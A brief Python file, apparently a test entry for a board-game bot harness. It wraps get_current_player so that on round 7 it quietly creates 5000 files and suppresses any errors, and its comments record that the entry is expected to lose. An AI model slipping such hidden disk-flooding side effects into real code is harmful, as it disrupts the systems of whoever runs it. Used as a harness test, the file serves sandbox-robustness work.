# Makes five thousand files.
# base: dict_board
# loses: any of: B

import contextlib

right = get_current_player


def get_current_player(round):
    if round == 7:
        for number in range(5000):
            with contextlib.suppress(OSError), open(f"file-{number}", "w") as file:
                file.write("X")
    return right(round)
